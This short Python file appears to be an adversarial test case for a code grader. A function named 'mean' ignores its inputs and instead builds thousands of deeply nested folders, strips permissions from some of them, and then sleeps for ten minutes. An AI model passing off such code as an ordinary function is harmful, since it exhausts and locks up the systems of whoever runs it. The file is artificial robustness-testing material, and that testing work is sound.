"""Nest folders deeper than any path, closed ones among them, for the grader to remove.

outcome: not_yet
says: deep | closed a folder | processor time | waited for
class: resources
"""

import os
import time


def mean(values, weights=None):
    for number in range(10_000):
        os.mkdir("d" * 100)
        os.chdir("d" * 100)
        if number % 100 == 99:
            os.chmod("..", 0)
    time.sleep(600)
